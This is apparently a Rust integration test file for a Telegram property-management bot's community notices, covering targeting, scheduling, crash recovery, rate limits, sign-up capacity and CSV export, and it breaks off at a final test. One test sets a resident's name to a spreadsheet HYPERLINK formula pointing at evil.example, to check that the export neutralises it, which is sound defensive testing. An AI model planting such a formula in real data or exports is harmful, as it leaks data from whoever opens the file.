//! Community notices end to end: composed in chat, targeted by building and
//! entrance, in each owner's language, scheduled with a moved clock,
//! cancelled, paused and resumed, delivered exactly once across a crash,
//! behind repair notifications, through 429s and past blocked owners; sign-up
//! with a capacity under concurrent presses, the list and the reminder;
//! owners' mutes; every kind of bad input.

use std::time::{Duration, Instant};

use chrono::Duration as Span;
use propdesk::clock::Clock as _;
use propdesk::delivery::limits::SendLimits;
use propdesk::domain::notice::NoticeKind;
use propdesk::domain::{Trade, Urgency};
use propdesk::i18n::Text;
use propdesk::sandbox::emulator::{ChatMessage, Fault, FaultKind, Limits};

use crate::support::{Person, TestApp, WAIT, file_repair};

fn containing(s: &str) -> impl Fn(&ChatMessage) -> bool {
    let s = s.to_owned();
    move |m| m.body().contains(&s)
}

/// The part of `text` before an argument given as "@".
fn head(person: &Person, text: Text) -> String {
    person.t(text).split('@').next().unwrap().to_owned()
}

/// How many times this person received a message reading exactly `body`.
fn got(person: &Person, body: &str) -> usize {
    person.emu.bot_messages(person.id).iter().filter(|m| m.body() == body).count()
}

async fn received(person: &Person, body: &str) {
    let body = body.to_owned();
    person.wait(0, "the notice", move |m| m.body() == body).await;
}

enum Aud<'a> {
    All,
    Buildings(&'a [&'a str]),
    Entrances(&'a [(&'a str, &'a str)]),
}

struct Compose<'a> {
    kind: NoticeKind,
    text: &'a str,
    english: Option<&'a str>,
    audience: Aud<'a>,
    staff: bool,
    /// Some(capacity): sign-up (None inside: no limit).
    signup: Option<Option<i32>>,
    /// A typed local time, or now.
    at: Option<String>,
}

impl<'a> Compose<'a> {
    fn new(kind: NoticeKind, text: &'a str) -> Self {
        Compose { kind, text, english: None, audience: Aud::All, staff: false, signup: None, at: None }
    }
}

/// Goes through the wizard up to the preview; returns the summary message.
async fn to_preview(admin: &Person, c: &Compose<'_>) -> ChatMessage {
    let before = admin.seq();
    admin.emu.send_text(admin.id, "/notice");
    admin.expect(before, Text::new("notice-ask-kind")).await;
    admin
        .press_and_get(
            c.kind.label(),
            Text::new("notice-ask-text").arg("lang", Text::new("notice-lang-zh")).arg("max", 4096usize),
        )
        .await;
    admin.says_and_gets(c.text, Text::new("notice-ask-other").arg("lang", Text::new("notice-lang-en"))).await;
    let photo = Text::new("notice-ask-photo").arg("max", 5i64);
    match c.english {
        Some(en) => admin.says_and_gets(en, photo).await,
        None => admin.press_and_get(Text::new("btn-notice-skip"), photo).await,
    };
    admin.press_and_get(Text::new("btn-notice-skip"), Text::new("notice-ask-audience")).await;
    if c.staff {
        admin.press(Text::new("btn-notice-staff-off"));
        let on = admin.t(Text::new("btn-notice-staff-on"));
        admin
            .wait(0, "staff ticked", move |m| {
                m.inline_keyboard.as_ref().is_some_and(|k| k.iter().flatten().any(|b| b.text == on))
            })
            .await;
    }
    let next =
        if c.kind == NoticeKind::Activity { Text::new("notice-ask-signup") } else { Text::new("notice-ask-when") };
    match c.audience {
        Aud::All => {
            admin.press_and_get(Text::new("btn-notice-all"), next).await;
        }
        Aud::Buildings(list) => {
            admin.press_and_get(Text::new("btn-notice-buildings"), Text::new("notice-ask-buildings")).await;
            for (n, b) in list.iter().enumerate() {
                admin.press_shown(Text::new("btn-notice-done").arg("count", n)).await;
                admin.press(Text::new("survey-building").arg("building", *b));
            }
            admin.press_and_get(Text::new("btn-notice-done").arg("count", list.len()), next).await;
        }
        Aud::Entrances(list) => {
            admin.press_and_get(Text::new("btn-notice-entrances"), Text::new("notice-ask-entrances")).await;
            for (n, (b, e)) in list.iter().enumerate() {
                admin.press_shown(Text::new("btn-notice-done").arg("count", n)).await;
                admin.press(Text::new("notice-entrance").arg("building", *b).arg("entrance", *e));
            }
            admin.press_and_get(Text::new("btn-notice-done").arg("count", list.len()), next).await;
        }
    }
    if c.kind == NoticeKind::Activity {
        match c.signup {
            None => {
                admin.press_and_get(Text::new("btn-notice-signup-no"), Text::new("notice-ask-when")).await;
            }
            Some(capacity) => {
                admin.press_and_get(Text::new("btn-notice-signup-yes"), Text::new("notice-ask-capacity")).await;
                match capacity {
                    Some(n) => admin.says_and_gets(&n.to_string(), Text::new("notice-ask-when")).await,
                    None => admin.press_and_get(Text::new("btn-notice-no-limit"), Text::new("notice-ask-when")).await,
                };
            }
        }
    }
    let before = admin.seq();
    match &c.at {
        None => {
            admin.press_shown(Text::new("btn-notice-now")).await;
        }
        Some(at) => {
            admin.press_and_get(Text::new("btn-notice-later"), Text::new("notice-ask-time")).await;
            admin.emu.send_text(admin.id, at);
        }
    }
    admin.expect(before, Text::new("notice-preview-head")).await;
    let send = admin.t(if c.at.is_some() { Text::new("btn-notice-schedule") } else { Text::new("btn-notice-send") });
    admin
        .wait(before, "the preview summary", move |m| {
            m.inline_keyboard.as_ref().is_some_and(|k| k.iter().flatten().any(|b| b.text == send))
        })
        .await
}

/// The whole wizard, then Send (or Schedule); returns the notice's id.
async fn compose(app: &TestApp, admin: &Person, c: Compose<'_>) -> i64 {
    to_preview(admin, &c).await;
    let before = admin.seq();
    let (button, answer) = if c.at.is_some() {
        (
            Text::new("btn-notice-schedule"),
            Text::new("notice-scheduled").arg("id", "@").arg("count", "@").arg("time", "@"),
        )
    } else {
        (Text::new("btn-notice-send"), Text::new("notice-sent").arg("id", "@").arg("count", "@"))
    };
    admin.press_shown(button).await;
    admin.wait(before, "sent or scheduled", containing(&head(admin, answer))).await;
    sqlx::query_scalar("SELECT max(id) FROM notices").fetch_one(&app.pool).await.unwrap()
}

/// `/notice` → 一般通知: the wizard waits for the text.
async fn begin_general_notice(admin: &Person) {
    let before = admin.seq();
    admin.emu.send_text(admin.id, "/notice");
    admin.expect(before, Text::new("notice-ask-kind")).await;
    admin
        .press_and_get(
            NoticeKind::General.label(),
            Text::new("notice-ask-text").arg("lang", Text::new("notice-lang-zh")).arg("max", 4096usize),
        )
        .await;
}

async fn state_of(app: &TestApp, id: i64) -> String {
    sqlx::query_scalar("SELECT state FROM notices WHERE id = $1").bind(id).fetch_one(&app.pool).await.unwrap()
}

async fn until_state(app: &TestApp, id: i64, want: &str) {
    let deadline = Instant::now() + WAIT * 4;
    loop {
        let state = state_of(app, id).await;
        if state == want {
            return;
        }
        assert!(Instant::now() < deadline, "notice {id} never became {want}: it is {state}");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

async fn sent_count(app: &TestApp, id: i64) -> i64 {
    sqlx::query_scalar("SELECT count(*) FROM outbox WHERE notice_id = $1 AND kind = 'notice' AND state = 'sent'")
        .bind(id)
        .fetch_one(&app.pool)
        .await
        .unwrap()
}

/// `n` owners bound (as customer service would) to rooms of building
/// `building`, entrance 1; each has opened the bot.
async fn crowd(app: &TestApp, n: usize, first_id: i64, building: &str) -> Vec<Person> {
    let mut people = Vec::new();
    for i in 0..n {
        let id = first_id + i as i64;
        let phone = format!("139{:08}", id);
        let unit = app.roster(&format!("{building}-1-{}", 101 + i), "业主", &phone).await;
        let person = app.person(id, &format!("业主{i}"), "zh-hans", &format!("86{phone}"));
        person.says("/start").await;
        sqlx::query(
            "INSERT INTO unit_residents (telegram_id, unit_id, name, relation, verified_by)
             VALUES ($1, $2, $3, 'owner', 'staff')",
        )
        .bind(id)
        .bind(unit)
        .bind(format!("业主{i}"))
        .execute(&app.pool)
        .await
        .unwrap();
        people.push(person);
    }
    people
}

#[tokio::test]
async fn a_notice_to_one_building_reaches_each_owner_there_once_in_their_language_with_a_progress_report() {
    let app = TestApp::spawn().await;
    let li = app.owner(1001, "李雷", "1-1-101", "8613800000001").await;
    let wang = app.owner(1002, "王芳", "1-2-102", "8613800000002").await;
    let zhao = app.owner(1003, "赵强", "2-1-201", "8613800000003").await;
    // Emily reads English.
    app.roster("1-1-105", "Emily", "8613800000004").await;
    let emily = app.person(1004, "Emily", "en", "8613800000004");
    let before = emily.start_and_share_contact().await;
    emily.wait(before, "her menu", |m| m.reply_keyboard.is_some()).await;
    // 李雷 has a second unit in building 1: he still gets the notice once.
    let second = app.roster("1-1-103", "李雷", "8613800000001").await;
    sqlx::query("INSERT INTO unit_residents VALUES ($1, $2, '李雷', 'owner', 'roster', now())")
        .bind(li.id)
        .bind(second)
        .execute(&app.pool)
        .await
        .unwrap();
    let admin = app.admin().await;

    let zh = "【停水通知】因管道检修，1栋将于明天 9:00-12:00 停水。*请提前储水*，<b>谢谢</b>配合。";
    let en = "Water off in building 1 tomorrow 9:00-12:00 for pipe repairs.";
    let mut c = Compose::new(NoticeKind::Outage, zh);
    c.english = Some(en);
    c.audience = Aud::Buildings(&["1"]);
    let summary = to_preview(&admin, &c).await;
    assert!(summary.body().contains(&admin.t(Text::new("notice-audience-buildings").arg("list", "1"))), "{summary:?}");
    assert!(summary.body().contains("3"), "three owners in building 1: {summary:?}");
    // The preview is the owner's message itself, in each version.
    assert_eq!(got(&admin, zh), 1);
    assert_eq!(got(&admin, en), 1);
    let before = admin.seq();
    admin.press_shown(Text::new("btn-notice-send")).await;
    admin
        .wait(before, "sent", containing(&head(&admin, Text::new("notice-sent").arg("id", "@").arg("count", "@"))))
        .await;
    let id: i64 = sqlx::query_scalar("SELECT max(id) FROM notices").fetch_one(&app.pool).await.unwrap();

    received(&li, zh).await;
    received(&wang, zh).await;
    received(&emily, en).await;
    until_state(&app, id, "done").await;
    let report = head(
        &admin,
        Text::new("notice-report")
            .arg("id", id)
            .arg("kind", "@")
            .arg("sent", "@")
            .arg("failed", "@")
            .arg("blocked", "@")
            .arg("total", "@")
            .arg("took", "@"),
    );
    let report = admin.wait(0, "the report", containing(&report)).await;
    assert!(report.body().contains('3'), "{report:?}");
    // What the composer reads follows what happened: one confirmation, then the
    // progress message (edited to the final figures, without Pause), then one report.
    let any = |text: Text| {
        ["kind", "sent", "failed", "blocked", "remaining", "total", "percent", "status", "took"]
            .into_iter()
            .fold(text.arg("id", id), |t, arg| t.arg(arg, "@"))
    };
    let progress_head = head(&admin, any(Text::new("notice-progress")));
    let finished = admin.t(Text::new("notice-progress-finished"));
    admin.wait(0, "the final figures", |m| m.text.as_deref().is_some_and(|t| t.contains(&finished))).await;
    admin.settle().await;
    // In the order they arrived (an edit keeps its message's place).
    let mut after_send: Vec<ChatMessage> =
        admin.emu.bot_messages(admin.id).into_iter().filter(|m| m.seq > before).collect();
    after_send.sort_by_key(|m| m.message_id);
    let sent = admin.t(Text::new("notice-sent").arg("id", id).arg("count", 3usize));
    let report_head = head(&admin, any(Text::new("notice-report")));
    let read: Vec<&str> = after_send
        .iter()
        .filter_map(|m| match m.text.as_deref() {
            Some(t) if t == sent => Some("confirmation"),
            Some(t) if t.starts_with(&progress_head) => Some("progress"),
            Some(t) if t.starts_with(&report_head) => Some("report"),
            _ => None,
        })
        .collect();
    assert_eq!(read, ["confirmation", "progress", "report"], "{after_send:#?}");
    let progress = after_send.iter().find(|m| m.text.as_deref().is_some_and(|t| t.starts_with(&progress_head)));
    let progress = progress.unwrap();
    assert!(progress.text.as_deref().unwrap().contains(&finished) && progress.inline_keyboard.is_none());

    zhao.settle().await;
    assert_eq!(got(&li, zh), 1, "two units, one notice");
    assert_eq!(got(&wang, zh), 1);
    assert_eq!((got(&emily, en), got(&emily, zh)), (1, 0));
    assert_eq!((got(&zhao, zh), got(&zhao, en)), (0, 0), "building 2 is not in the audience");

    // Someone who joins afterwards does not get it.
    let late = app.owner(1005, "钱多", "1-1-106", "8613800000005").await;
    late.settle().await;
    assert_eq!(got(&late, zh), 0);
    app.stop().await;
}

#[tokio::test]
async fn a_notice_to_one_entrance_skips_the_other_entrances_and_can_include_staff() {
    let app = TestApp::spawn().await;
    let li = app.owner(1001, "李雷", "1-1-101", "8613800000001").await;
    let wang = app.owner(1002, "王芳", "1-2-102", "8613800000002").await;
    let cs = app.staff(2001, "周经理", Trade::CustomerService, false).await;
    let admin = app.admin().await;
    let text = "1栋1单元电梯明天上午例行保养，请走楼梯。";
    let mut c = Compose::new(NoticeKind::Outage, text);
    c.audience = Aud::Entrances(&[("1", "1")]);
    c.staff = true;
    let id = compose(&app, &admin, c).await;
    received(&li, text).await;
    received(&cs, text).await;
    until_state(&app, id, "done").await;
    wang.settle().await;
    assert_eq!(got(&wang, text), 0, "entrance 2 is not in the audience");
    assert_eq!(sent_count(&app, id).await, 2);
    app.stop().await;
}

#[tokio::test]
async fn a_scheduled_notice_waits_for_its_time_and_a_cancelled_one_never_goes() {
    let app = TestApp::spawn().await;
    let li = app.owner(1001, "李雷", "1-1-101", "8613800000001").await;
    let admin = app.admin().await;
    let tz = app.settings.time_zone;
    let local = |span: Span| (app.clock.now() + span).with_timezone(&tz).format("%Y-%m-%d %H:%M").to_string();

    let meeting = "2026年度业主大会将于12月10日晚7点在会所召开。";
    let mut c = Compose::new(NoticeKind::Meeting, meeting);
    c.at = Some(local(Span::hours(2)));
    let id = compose(&app, &admin, c).await;
    let party = "中秋游园会取消";
    let mut c = Compose::new(NoticeKind::General, party);
    c.at = Some(local(Span::hours(2)));
    let cancelled = compose(&app, &admin, c).await;
    assert_eq!(state_of(&app, id).await, "scheduled");

    // /notices lists both; the second is cancelled before it starts.
    let before = admin.seq();
    admin.emu.send_text(admin.id, "/notices");
    admin.expect_containing(before, Text::new("notice-list-head")).await;
    let before = admin.seq();
    admin.press_shown(Text::new("btn-notice-cancel").arg("id", cancelled)).await;
    admin.expect(before, Text::new("notice-cancelled-scheduled").arg("id", cancelled)).await;

    app.scheduler().tick().await;
    li.settle().await;
    assert_eq!(got(&li, meeting), 0, "not before its time");

    app.advance(Span::hours(2) + Span::minutes(1));
    app.scheduler().tick().await;
    received(&li, meeting).await;
    until_state(&app, id, "done").await;
    li.settle().await;
    assert_eq!(got(&li, meeting), 1);
    assert_eq!(got(&li, party), 0);
    assert_eq!(state_of(&app, cancelled).await, "cancelled");

    // A past time typed at the time step is refused there.
    begin_general_notice(&admin).await;
    admin.says_and_gets("x", Text::new("notice-ask-other").arg("lang", Text::new("notice-lang-en"))).await;
    admin.press_and_get(Text::new("btn-notice-skip"), Text::new("notice-ask-photo").arg("max", 5i64)).await;
    admin.press_and_get(Text::new("btn-notice-skip"), Text::new("notice-ask-audience")).await;
    admin.press_and_get(Text::new("btn-notice-all"), Text::new("notice-ask-when")).await;
    admin.press_and_get(Text::new("btn-notice-later"), Text::new("notice-ask-time")).await;
    admin.says_and_gets(&local(Span::hours(-1)), Text::new("notice-time-past")).await;
    app.stop().await;
}

#[tokio::test]
async fn bad_input_gets_a_clear_answer_and_nothing_is_sent() {
    let app = TestApp::spawn().await;
    let li = app.owner(1001, "李雷", "1-1-101", "8613800000001").await;
    let plumber = app.staff(2002, "刘师傅", Trade::Plumbing, false).await;
    // Building 9 has units but nobody bound there.
    app.roster("9-1-901", "空房", "8613800000009").await;
    let admin = app.admin().await;

    li.says_and_gets("/notice", Text::new("notice-not-allowed")).await;
    plumber.says_and_gets("/notice", Text::new("notice-not-allowed")).await;
    // A forged press on a wizard button.
    let q = plumber.press_data("nc:go");
    assert!(plumber.answer_to(&q).await.is_some());

    begin_general_notice(&admin).await;
    admin
        .says_and_gets(
            &"长".repeat(4097),
            Text::new("notice-text-too-long").arg("max", 4096usize).arg("len", 4097usize),
        )
        .await;
    admin
        .says_and_gets(&"短".repeat(1500), Text::new("notice-ask-other").arg("lang", Text::new("notice-lang-en")))
        .await;
    admin.press_and_get(Text::new("btn-notice-skip"), Text::new("notice-ask-photo").arg("max", 5i64)).await;
    admin.says_and_gets("这不是照片", Text::new("notice-photo-expected")).await;
    // Over 5 MB.
    let before = admin.seq();
    admin.emu.send_photo(admin.id, vec![0xFF; 5 * 1024 * 1024 + 1], None);
    admin.expect(before, Text::new("notice-photo-too-large").arg("max", 5i64)).await;
    // Small enough, but 1500 characters cannot be its caption.
    let before = admin.seq();
    admin.emu.send_photo(admin.id, vec![0xFF, 0xD8, 1], None);
    admin.expect(before, Text::new("notice-caption-too-long").arg("max", 1024usize).arg("len", 1500usize)).await;
    admin.press_and_get(Text::new("btn-notice-skip"), Text::new("notice-ask-audience")).await;
    // Building 9: nobody to send to.
    admin.press_and_get(Text::new("btn-notice-buildings"), Text::new("notice-ask-buildings")).await;
    admin.press(Text::new("survey-building").arg("building", "9"));
    admin.press_and_get(Text::new("btn-notice-done").arg("count", 1usize), Text::new("notice-ask-when")).await;
    admin.press_and_get(Text::new("btn-notice-now"), Text::new("notice-audience-empty")).await;
    // Back at the audience: cancel.
    let before = admin.seq();
    admin.press(Text::new("btn-cancel"));
    admin.expect(before, Text::new("notice-cancelled")).await;

    li.settle().await;
    assert_eq!(app.count("SELECT count(*) FROM notices").await, 0);
    assert_eq!(app.count("SELECT count(*) FROM outbox WHERE kind LIKE 'notice%'").await, 0);
    app.stop().await;
}

#[tokio::test]
async fn a_running_notice_pauses_and_resumes_and_everyone_gets_it_once() {
    let limits = SendLimits { overall_per_sec: 2, per_chat_per_sec: 100, per_chat_burst: 100, per_chat_per_min: 1000 };
    let app = TestApp::spawn_with_limits(limits).await;
    let owners = crowd(&app, 12, 3000, "1").await;
    let admin = app.admin().await;
    let text = "小区将于周六进行消防演练。";
    let id = compose(&app, &admin, Compose::new(NoticeKind::General, text)).await;
    received(&owners[0], text).await;
    admin.press_shown(Text::new("btn-notice-pause")).await;
    until_state(&app, id, "paused").await;
    let at_pause = sent_count(&app, id).await;
    tokio::time::sleep(Duration::from_millis(1200)).await;
    let later = sent_count(&app, id).await;
    // What the sender had claimed before the pause may still go (one batch).
    assert!(later <= at_pause + 1, "paused: {at_pause} then {later}");
    assert!(later < 12, "paused before the end");
    assert_eq!(state_of(&app, id).await, "paused");

    let before = admin.seq();
    admin.emu.send_text(admin.id, "/notices");
    admin.expect_containing(before, Text::new("notice-list-head")).await;
    admin.press_shown(Text::new("btn-notice-resume-n").arg("id", id)).await;
    until_state(&app, id, "done").await;
    admin.wait(0, "told it resumed", containing(&admin.t(Text::new("notice-resumed").arg("id", id)))).await;
    for owner in &owners {
        assert_eq!(got(owner, text), 1, "{}", owner.id);
    }
    app.stop().await;
}

#[tokio::test]
async fn killed_mid_broadcast_a_new_sender_finishes_it_and_nobody_is_skipped() {
    let limits = SendLimits { overall_per_sec: 10, per_chat_per_sec: 100, per_chat_burst: 100, per_chat_per_min: 1000 };
    let mut app = TestApp::spawn_with_limits(limits).await;
    let owners = crowd(&app, 30, 3000, "1").await;
    let admin = app.admin().await;
    let text = "物业费缴费通知：请于月底前缴纳第四季度物业费。";
    let id = compose(&app, &admin, Compose::new(NoticeKind::General, text)).await;
    let deadline = Instant::now() + WAIT;
    while sent_count(&app, id).await < 8 {
        assert!(Instant::now() < deadline);
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    app.kill_bot().await;
    let at_kill = sent_count(&app, id).await;
    assert!(at_kill < 30, "killed mid-way ({at_kill} sent)");
    app.start_bot().await;
    until_state(&app, id, "done").await;
    let counts: Vec<usize> = owners.iter().map(|o| got(o, text)).collect();
    assert!(counts.iter().all(|n| *n >= 1), "nobody skipped: {counts:?}");
    // Only a message in flight at the kill (its answer unrecorded) can go
    // twice: at most one per concurrent lane of the sender.
    let repeats: usize = counts.iter().map(|n| n - 1).sum();
    assert!(repeats <= 8, "in doubt at most 8: {counts:?}");
    assert!(counts.iter().all(|n| *n <= 2), "{counts:?}");
    assert_eq!(sent_count(&app, id).await, 30);
    app.stop().await;
}

#[tokio::test]
async fn a_repair_notification_overtakes_a_running_broadcast() {
    let limits = SendLimits { overall_per_sec: 15, per_chat_per_sec: 100, per_chat_burst: 100, per_chat_per_min: 1000 };
    let app = TestApp::spawn_with_limits(limits).await;
    let owner = app.owner(1001, "王芳", "3-2-1201", "8613800138000").await;
    let plumber = app.staff(2002, "刘师傅", Trade::Plumbing, false).await;
    // 100 at 15 a second: over six seconds of broadcast, longer than filing takes.
    crowd(&app, 100, 3000, "1").await;
    let admin = app.admin().await;
    let text = "社区将开展垃圾分类宣传活动。";
    let id = compose(&app, &admin, Compose::new(NoticeKind::General, text)).await;
    let plumber_before = plumber.seq();
    let number = file_repair(&owner, 0, Urgency::Emergency).await;
    let filed = Instant::now();
    let remaining: i64 = sqlx::query_scalar(
        "SELECT count(*) FROM outbox WHERE notice_id = $1 AND kind = 'notice' AND state IN ('pending', 'sending')",
    )
    .bind(id)
    .fetch_one(&app.pool)
    .await
    .unwrap();
    plumber.wait(plumber_before, "the card", containing(&number)).await;
    let waited = filed.elapsed();
    assert!(remaining > 0, "the broadcast was still running");
    assert!(waited < Duration::from_secs(1), "the card waited {waited:?} behind the broadcast");
    until_state(&app, id, "done").await;
    app.stop().await;
}

/// At 1,000 messages a second the sender's lanes and its claims share the
/// pool (5 connections in tests). A lane the pool hands a connection to must
/// run even while the sender waits for one itself: when the lanes were
/// futures its loop polled, they did not, and the whole bot stalled until
/// the pool's 30 s timeout (the broadcast bench found it).
#[tokio::test]
async fn a_fast_broadcast_does_not_stall_the_bot_on_the_pool() {
    let app = TestApp::spawn_with_limits(SendLimits::telegram(1000)).await;
    let owner = app.owner(1001, "王芳", "3-2-1201", "8613800138000").await;
    let plumber = app.staff(2002, "刘师傅", Trade::Plumbing, false).await;
    let admin = app.admin().await;
    const RECIPIENTS: i64 = 3_000;
    const FIRST: i64 = 5_000_000;
    let community: i64 = sqlx::query_scalar("SELECT min(id) FROM communities").fetch_one(&app.pool).await.unwrap();
    let mut conn = app.pool.acquire().await.unwrap();
    propdesk::store::testdb::seed_owners(&mut conn, community, FIRST, RECIPIENTS).await.unwrap();
    drop(conn);
    app.emu.register_started_users(
        (FIRST..FIRST + RECIPIENTS).map(|id| propdesk::sandbox::emulator::EmuUser::new(id, &format!("业主{id}"))),
    );
    let id = compose(&app, &admin, Compose::new(NoticeKind::General, "今晚 20:00 小区广场放映露天电影。")).await;
    // A repair filed while it runs: its card arrives within the harness's
    // wait (15 s), which a stall until the pool's timeout (30 s) exceeds.
    let plumber_before = plumber.seq();
    let number = file_repair(&owner, 0, Urgency::Routine).await;
    plumber.wait(plumber_before, "the card", containing(&number)).await;
    until_state(&app, id, "done").await;
    assert!(sent_count(&app, id).await >= RECIPIENTS, "every seeded owner got it");
    app.stop().await;
}

#[tokio::test]
async fn telegrams_429s_slow_the_broadcast_down_and_it_finishes_exactly_once() {
    let app = TestApp::spawn().await;
    let owners = crowd(&app, 12, 3000, "1").await;
    let admin = app.admin().await;
    // The bot thinks it may send 1000/s; Telegram (the emulator) allows 5.
    app.emu.set_limits(Some(Limits { per_chat_per_sec: 1, global_per_sec: 5 }));
    let text = "本周六上午开展绿化修剪。";
    let requests = app.emu.request_count("sendMessage");
    let admin_had = admin.emu.bot_messages(admin.id).len();
    let id = compose(&app, &admin, Compose::new(NoticeKind::General, text)).await;
    until_state(&app, id, "done").await;
    app.emu.set_limits(None);
    for owner in &owners {
        assert_eq!(got(owner, text), 1, "{}", owner.id);
    }
    assert_eq!(sent_count(&app, id).await, 12);
    let tried = app.emu.request_count("sendMessage") - requests;
    let shown = 12 + admin.emu.bot_messages(admin.id).len() - admin_had;
    assert!(tried > shown, "some sends were refused with 429 and tried again ({tried} requests, {shown} shown)");
    app.stop().await;
}

#[tokio::test]
async fn a_blocked_owner_is_skipped_next_time_and_comes_back_after_start() {
    let app = TestApp::spawn().await;
    let li = app.owner(1001, "李雷", "1-1-101", "8613800000001").await;
    let wang = app.owner(1002, "王芳", "1-1-102", "8613800000002").await;
    let zhao = app.owner(1003, "赵强", "1-1-103", "8613800000003").await;
    let admin = app.admin().await;
    // 王芳 blocks the bot (Telegram tells it); 赵强's block is only learnt
    // from the 403 the notice gets.
    app.emu.set_blocked(wang.id, true);
    app.emu.add_fault(Fault::new(FaultKind::Forbidden).method("sendMessage").chat(zhao.id));
    let first = compose(&app, &admin, Compose::new(NoticeKind::General, "第一条")).await;
    until_state(&app, first, "done").await;
    let dead: i64 = sqlx::query_scalar(
        "SELECT count(*) FROM outbox WHERE notice_id = $1 AND kind = 'notice' AND state = 'dead' AND chat_id = $2",
    )
    .bind(first)
    .bind(zhao.id)
    .fetch_one(&app.pool)
    .await
    .unwrap();
    assert_eq!(dead, 1);
    let reachable = app.count("SELECT count(*) FROM users WHERE reachable AND telegram_id IN (1002, 1003)").await;
    assert_eq!(reachable, 0);
    assert_eq!(got(&wang, "第一条"), 0);
    let report = head(
        &admin,
        Text::new("notice-report")
            .arg("id", first)
            .arg("kind", "@")
            .arg("sent", "@")
            .arg("failed", "@")
            .arg("blocked", "@")
            .arg("total", "@")
            .arg("took", "@"),
    );
    admin.wait(0, "the report", containing(&report)).await;

    let second = compose(&app, &admin, Compose::new(NoticeKind::General, "第二条")).await;
    until_state(&app, second, "done").await;
    let rows =
        app.count(&format!("SELECT count(*) FROM outbox WHERE notice_id = {second} AND chat_id IN (1002, 1003)")).await;
    assert_eq!(rows, 0, "skipped while unreachable");

    app.emu.set_blocked(wang.id, false);
    wang.says("/start").await;
    let third = compose(&app, &admin, Compose::new(NoticeKind::General, "第三条")).await;
    received(&wang, "第三条").await;
    until_state(&app, third, "done").await;
    assert_eq!(got(&li, "第三条"), 1);
    app.stop().await;
}

#[tokio::test]
async fn sign_up_keeps_the_capacity_under_concurrent_presses_and_the_organiser_gets_the_list() {
    let app = TestApp::spawn().await;
    let owners = crowd(&app, 6, 3000, "1").await;
    let admin = app.admin().await;
    let text = "中秋亲子手工活动，限 2 个家庭，欢迎报名！";
    let mut c = Compose::new(NoticeKind::Activity, text);
    c.signup = Some(Some(2));
    let id = compose(&app, &admin, c).await;
    for o in &owners {
        received(o, text).await;
    }
    // Everyone presses at once.
    let presses: Vec<(usize, String)> =
        owners.iter().enumerate().map(|(i, o)| (i, o.press(Text::new("btn-notice-signup")))).collect();
    let mut full = 0;
    for (i, q) in &presses {
        let answer = owners[*i].answer_to(q).await.unwrap_or_default();
        if answer == owners[*i].t(Text::new("notice-signup-full").arg("capacity", 2i64)) {
            full += 1;
        }
    }
    assert_eq!(full, 4, "two places, six presses");
    assert_eq!(app.count(&format!("SELECT count(*) FROM notice_signups WHERE notice_id = {id}")).await, 2);

    // One of them withdraws; another takes the place.
    let signed: Vec<i64> = sqlx::query_scalar("SELECT telegram_id FROM notice_signups ORDER BY telegram_id")
        .fetch_all(&app.pool)
        .await
        .unwrap();
    let first = owners.iter().find(|o| o.id == signed[0]).unwrap();
    first.press_shown(Text::new("btn-notice-withdraw")).await;
    let other = owners.iter().find(|o| !signed.contains(&o.id)).unwrap();
    let deadline = Instant::now() + WAIT;
    while app.count(&format!("SELECT count(*) FROM notice_signups WHERE notice_id = {id}")).await != 1 {
        assert!(Instant::now() < deadline);
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    let q = other.press(Text::new("btn-notice-signup"));
    let ok = other.answer_to(&q).await.unwrap_or_default();
    assert!(ok.starts_with(&head(other, Text::new("notice-signed-up").arg("count", "@"))), "{ok}");

    // A forged sign-up for a notice the person never got.
    let outsider = app.owner(1001, "李雷", "2-1-201", "8613800000001").await;
    let q = outsider.press_data(&format!("nt:{id}:su"));
    assert_eq!(outsider.answer_to(&q).await, Some(outsider.t(Text::new("notice-signup-none"))));

    // The organiser downloads the list and reminds those signed up.
    until_state(&app, id, "done").await;
    let before = admin.seq();
    admin.emu.send_text(admin.id, "/notices");
    admin.expect_containing(before, Text::new("notice-list-head")).await;
    let before = admin.seq();
    admin.press_shown(Text::new("btn-notice-csv").arg("id", id)).await;
    let doc = admin.wait(before, "the CSV", |m| m.document_file_id.is_some()).await;
    let bytes = admin.emu.file_bytes(doc.document_file_id.as_deref().unwrap()).unwrap();
    let csv = String::from_utf8(bytes[3..].to_vec()).unwrap();
    assert_eq!(csv.lines().count(), 3, "header and two names: {csv}");
    assert!(csv.starts_with("name,units,phone,signed_up_at"), "{csv}");
    assert!(csv.contains("1/1/"), "units: {csv}");
    let before = admin.seq();
    admin.press_shown(Text::new("btn-notice-remind").arg("id", id)).await;
    admin.expect(before, Text::new("notice-reminded").arg("count", 2usize)).await;
    let reminder = head(other, Text::new("notice-signup-reminder").arg("excerpt", "@"));
    other.wait(0, "the reminder", containing(&reminder)).await;
    first.settle().await;
    assert!(!first.bot_texts().iter().any(|t| t.contains(&reminder)), "withdrawn: no reminder");
    app.stop().await;
}

#[tokio::test]
async fn a_formula_in_a_name_reaches_the_sign_up_list_as_text_and_phones_stay_text() {
    let app = TestApp::spawn().await;
    let link = r#"=HYPERLINK("http://evil.example/?leak","点击查看")"#;
    let owner = app.owner(1001, link, "1-1-101", "8613800000001").await;
    // Their phone as Telegram shares it, with the country code.
    sqlx::query("UPDATE users SET phone = '+8613800000001' WHERE telegram_id = $1")
        .bind(owner.id)
        .execute(&app.pool)
        .await
        .unwrap();
    let admin = app.admin().await;
    let text = "元旦游园会，欢迎报名！";
    let mut c = Compose::new(NoticeKind::Activity, text);
    c.signup = Some(None);
    let id = compose(&app, &admin, c).await;
    received(&owner, text).await;
    owner.press_shown(Text::new("btn-notice-signup")).await;
    until_state(&app, id, "done").await;

    let before = admin.seq();
    admin.emu.send_text(admin.id, "/notices");
    admin.expect_containing(before, Text::new("notice-list-head")).await;
    let before = admin.seq();
    admin.press_shown(Text::new("btn-notice-csv").arg("id", id)).await;
    let doc = admin.wait(before, "the CSV", |m| m.document_file_id.is_some()).await;
    let bytes = admin.emu.file_bytes(doc.document_file_id.as_deref().unwrap()).unwrap();
    let mut reader = csv::Reader::from_reader(bytes.strip_prefix(b"\xEF\xBB\xBF").expect("a byte-order mark"));
    let rows: Vec<Vec<String>> = reader.records().map(|r| r.unwrap().iter().map(str::to_owned).collect()).collect();
    assert_eq!(rows.len(), 1, "{rows:?}");
    assert_eq!(rows[0][0], format!("'{link}"), "a leading quote keeps it text in Excel");
    assert_eq!(rows[0][2], "'+8613800000001", "a phone is not a sum");
    app.stop().await;
}

#[tokio::test]
async fn an_owner_mutes_activities_but_still_gets_outages() {
